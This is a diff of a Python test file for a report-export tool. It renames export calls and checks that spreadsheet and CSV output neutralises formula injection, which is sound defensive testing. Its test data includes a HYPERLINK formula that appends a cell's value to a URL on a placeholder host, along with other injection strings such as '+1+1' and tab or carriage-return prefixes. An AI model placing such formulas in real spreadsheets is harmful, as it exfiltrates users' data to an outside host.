@@ -17,7 +17,7 @@ FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A2,"Klicka här")', "+1+1", "
 @pytest.fixture(scope="module")
 def timra(tmp_path_factory):
     out = tmp_path_factory.mktemp("timra")
-    et.Report(PARAMS / "timra-vagen-ut.yaml").export_tables(out)
+    et.export_report(et.Report(PARAMS / "timra-vagen-ut.yaml"), out)
     return out
 
 
@@ -131,7 +131,7 @@ def test_csv_for_excel_and_machine_readable_csv(timra):
 
 
 def test_english_workbook(tmp_path):
-    et.Report(PARAMS / "timra-vagen-ut.yaml", lang="en").export_tables(tmp_path)
+    et.export_report(et.Report(PARAMS / "timra-vagen-ut.yaml", lang="en"), tmp_path)
     wb = openpyxl.load_workbook(tmp_path / "timra-vagen-ut-tabeller.xlsx")
     assert wb.sheetnames[:3] == ["About the tables", "Goals", "Budget"]
     actual = _column(wb["Budget"], "Actual")
@@ -152,7 +152,7 @@ def hostile(tiny_project):
 
 def test_formulas_in_text_are_written_as_text(hostile, tmp_path):
     out = tmp_path / "out"
-    et.Report(hostile).export_tables(out)
+    et.export_report(et.Report(hostile), out)
     wb = openpyxl.load_workbook(out / "tiny-tabeller.xlsx")
     for ws in wb.worksheets:
         for row in ws.iter_rows():
@@ -174,11 +174,11 @@ def test_formulas_in_text_are_written_as_text(hostile, tmp_path):
 
 
 def test_portfolio_workbook(hostile, tmp_path):
-    from evaltools.portfolio import Portfolio
+    from evaltools.present.portfolio import Portfolio
     params = Path(hostile)
     params.write_text(params.read_text(encoding="utf-8").replace("title: Litet testprojekt", "title: '=HYPERLINK(\"x\")'"),
                       encoding="utf-8")
-    files = Portfolio([params]).export_tables(tmp_path)
+    files = et.export_portfolio(Portfolio([params]), tmp_path)
     assert {p.name for p in files} == {"portfolio.xlsx", "portfolio.csv", "portfolio-data.csv"}
     wb = openpyxl.load_workbook(tmp_path / "portfolio.xlsx")
     assert wb.sheetnames == ["Om tabellerna", "Projekt"]
@@ -198,7 +198,7 @@ def test_portfolio_workbook(hostile, tmp_path):
 def test_tab_and_carriage_return_are_neutralised_too(tmp_path):
     import pandas as pd
 
-    from evaltools.workbook import Column, Sheet, write_csv, write_workbook
+    from evaltools.publish.workbook import Column, Sheet, write_csv, write_workbook
     frame = pd.DataFrame({"text": ["\tTAB", "\rCR", "plain", "a-b", "=1"], "amount": [-5.0, 1.5, 2.0, -0.6, 0.0]})
     sheet = Sheet("t", "workbook.sheets.budget.title", "workbook.sheets.budget.description", frame,
                   [Column("text", "workbook.column.budget.category"), Column("amount", "workbook.column.budget.budget", "kr")])
